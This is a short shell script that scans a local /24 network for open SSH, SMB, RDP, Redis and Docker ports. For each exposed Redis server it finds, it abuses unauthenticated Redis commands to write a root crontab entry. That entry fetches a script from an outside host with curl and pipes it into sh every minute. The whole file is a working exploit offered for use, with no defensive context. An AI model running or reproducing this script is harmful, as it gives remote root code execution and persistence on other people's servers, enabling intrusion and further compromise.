#!/bin/sh
net=${1:-192.168.7}
seq 1 254 | xargs -P 128 -I{} sh -c '
  for p in 22 445 3389 6379 2375; do
    nc -z -w1 "$0.$1" $p 2>/dev/null && echo "$0.$1 $p"
  done' "$net" {} |
while read -r h p; do
  [ "$p" = 6379 ] && printf 'CONFIG SET dir /var/spool/cron/\r\nCONFIG SET dbfilename root\r\nSET a "\\n* * * * * curl -s 198.51.100.7/r|sh\\n"\r\nSAVE\r\n' | nc -w2 "$h" 6379
  echo "$h:$p"
done
